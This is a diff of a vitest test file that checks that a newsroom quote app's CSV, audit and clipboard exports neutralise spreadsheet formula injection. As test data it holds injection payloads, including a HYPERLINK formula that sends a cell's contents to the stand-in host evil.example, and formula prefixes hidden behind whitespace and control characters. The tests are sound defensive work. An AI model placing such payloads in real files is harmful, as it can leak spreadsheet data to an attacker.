@@ -1,8 +1,22 @@
 import { describe, expect, it } from 'vitest';
+import { fingerprintOf, inReadingOrder } from '#core/desk/view.ts';
+import { auditCsv } from '#core/export/audit.ts';
 import { parseCsv, writeCsv } from '#core/export/csv.ts';
 import { fileName } from '#core/export/file-names.ts';
 import { unguard } from '#core/export/formula-guard.ts';
-import { firstStory } from '../makers/make-desk.ts';
+import { quotesCsv, quotesTable } from '#core/export/quotes-file.ts';
+import { sourcesCsv } from '#core/export/source-links.ts';
+import { firstStoryLog, type LogBench } from '../core/export/log-bench.ts';
+import {
+  CHECKER,
+  edit,
+  firstStory,
+  HEAD,
+  here,
+  makeEvidence,
+  makeSource,
+  set,
+} from '../makers/make-desk.ts';
 
 /**
  * What would run in a spreadsheet: the attack cases AC25 to AC31 and AC34. AC33, what is
@@ -17,12 +31,61 @@ function seenBySpreadsheet(cell: string): readonly (readonly string[])[] {
   return parseCsv(writeCsv([[cell, 'next']], SPREADSHEET), 'comma');
 }
 
+/** A story in which people typed the same thing into everything that is exported. */
+function hostileStory(typed: string): LogBench {
+  const story = firstStoryLog();
+  const { bench, do: act } = story;
+  const [, first, second, third] = inReadingOrder(bench.desk).map(({ id }) => id);
+  if (first === undefined || second === undefined || third === undefined) throw new Error('short');
+  const source = makeSource('src-x', { type: 'outlet', title: typed, publisher: typed });
+  act(CHECKER, { type: 'add-source', source });
+  const link = { locator: typed, excerpt: typed, chain: [typed] };
+  const style = { id: 'hs-1', name: typed.slice(0, 50).replaceAll('\n', ' '), version: 1 };
+  act(
+    CHECKER,
+    edit(
+      set('evidence.item', 'ev-x', makeEvidence('ev-x', first, 'src-x', link)),
+      set('quote.verdict', first, {
+        code: 'SECOND_HAND',
+        scale: 'quote-verdict/1',
+        reason: typed,
+        override: true,
+      }),
+      set('quote.fix', first, typed),
+      set('quote.language', first, {
+        language: 'ar',
+        original: typed,
+        translator: typed,
+        secondReader: null,
+      }),
+      set('story.houseStyle', 'st-1', 'custom'),
+      set('story.style', 'st-1', style),
+    ),
+  );
+  act(HEAD, {
+    type: 'run-unsigned',
+    quoteIds: [second],
+    seenFingerprints: [fingerprintOf(bench.desk, here(bench, second))],
+    reason: typed,
+  });
+  act(CHECKER, {
+    type: 'ask',
+    quoteId: third,
+    messageId: 'm-1',
+    addressee: typed,
+    question: typed,
+  });
+  return story;
+}
+
 describe('no cell begins with what a spreadsheet runs', () => {
   it.each([
     ['AC25', '=HYPERLINK("https://evil.example/?"&A1,"open")'],
     ['AC26', '+1'],
     ['AC26', '-1'],
     ['AC26', '@SUM(A1:A9)'],
+    ['AC27', ' =1+1'],
+    ['AC27', '\u00a0\u00a0@SUM(A1)'],
     ['AC27', '\t=1+1'],
     ['AC27', '\r=1+1'],
     ['AC27', '\n=1+1'],
@@ -48,6 +111,35 @@ describe('one value stays one cell', () => {
     expect(rows).toHaveLength(1);
     expect(rows[0]).toHaveLength(2);
     expect(rows[0]?.[1]).toBe('next');
+  });
+});
+
+describe('every file, with all that people type', () => {
+  const RUNS = '=HYPERLINK("https://evil.example/","open")\n=1+1';
+  const story = hostileStory(RUNS);
+  const input = story.input();
+  const making = { exportedAt: '2026-11-24T14:05:00Z', exportedBy: RUNS };
+  const files: readonly (readonly [string, string])[] = [
+    ['compact', [...quotesCsv(input, { ...SPREADSHEET, preset: 'compact' }, making)].join('')],
+    ['full', [...quotesCsv(input, { ...SPREADSHEET, preset: 'full' }, making)].join('')],
+    ['sources', [...sourcesCsv(input, SPREADSHEET)].join('')],
+    ['audit', [...auditCsv(input, input.log, SPREADSHEET)].join('')],
+  ];
+
+  it.each(files)('AC25, AC29, AC30: %s runs nothing, and no row is made by a value', (_, csv) => {
+    const [headings = [], ...rows] = parseCsv(csv, 'comma');
+    expect(rows.length).toBeGreaterThan(0);
+    for (const row of rows) expect(row).toHaveLength(headings.length);
+    const cells = rows.flat();
+    expect(cells.filter((cell) => cell.includes('evil.example')).length).toBeGreaterThan(0);
+    expect(cells.filter((cell) => /^\s*[=+\-@]/u.test(cell))).toEqual([]);
+  });
+
+  it('the table of the clipboard has one line a quote, and runs nothing', () => {
+    const lines = quotesTable(input, making).trimEnd().split('\n');
+    expect(lines).toHaveLength(parseCsv(files[0]?.[1] ?? '', 'comma').length);
+    const cells = lines.flatMap((line) => line.split('\t'));
+    expect(cells.filter((cell) => /^"?\s*[=+\-@]/u.test(cell))).toEqual([]);
   });
 });
 
